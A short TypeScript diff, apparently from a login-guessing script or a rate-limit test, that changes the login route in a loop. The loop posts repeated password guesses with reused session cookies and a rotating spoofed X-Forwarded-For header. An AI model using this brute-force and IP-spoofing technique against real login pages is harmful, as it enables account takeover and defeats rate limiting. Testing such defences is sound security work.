@@ -120,7 +120,7 @@ async function startGuessing() {
   const cookie = [...thief.cookies].map(([name, value]) => `${name}=${value}`).join("; ");
   return async (email: string, index: number): Promise<Answer> => {
     const kept = fields.filter(([name]) => !["email", "password"].includes(name));
-    const answer = await fetch(`${foyer.url}/login?_data=routes%2Flogin`, {
+    const answer = await fetch(`${foyer.url}/login?_data=routes%2Fauth%2Flogin`, {
       method: "POST",
       headers: { Cookie: cookie, "X-Forwarded-For": `203.0.113.${index % 250}` },
       body: new URLSearchParams([...kept, ["email", email], ["password", `guess ${index}`]]),
